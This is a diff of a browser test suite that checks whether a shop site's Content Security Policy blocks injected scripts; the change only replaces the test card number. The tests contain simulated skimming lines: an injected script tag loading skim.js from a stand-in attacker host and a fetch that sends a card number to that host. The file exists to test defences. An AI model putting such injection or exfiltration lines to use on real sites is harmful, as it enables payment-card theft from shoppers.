@@ -74,7 +74,7 @@ test.describe('what a page keeps out', () => {
       const { 'content-security-policy': policy = '', ...headers } = response.headers();
       const older = policy.replace(/;report-to [^;]+/, '');
       // As whoever stands between the shop and the shopper would do it.
-      const slipped = `<script>window.stolen = 1</script><script src="${EVIL}/skim.js?for=4000000000000010"></script>`;
+      const slipped = `<script>window.stolen = 1</script><script src="${EVIL}/skim.js?for=6011000990139424"></script>`;
       return route.fulfill({
         response,
         headers: { ...headers, 'content-security-policy': older },
@@ -94,7 +94,7 @@ test.describe('what a page keeps out', () => {
       const script = document.createElement('script');
       script.append('window.stolen = 1');
       document.head.append(script);
-      await fetch(`${evil}/?card=4000000000000010`).catch(() => null);
+      await fetch(`${evil}/?card=6011000990139424`).catch(() => null);
       return {
         thrown: [
           thrown(() => (script.text = 'window.stolen = 1')),
@@ -123,7 +123,7 @@ test.describe('what a page keeps out', () => {
           expect.stringMatching(/"connect-src","blocked":"http:\/\/evil\.test"/),
         ]),
       );
-    expect(reports().join('')).not.toContain('4000');
+    expect(reports().join('')).not.toContain('6011');
   });
 
   test('no page of ours shows in a frame of another site', async ({ page, baseURL }) => {
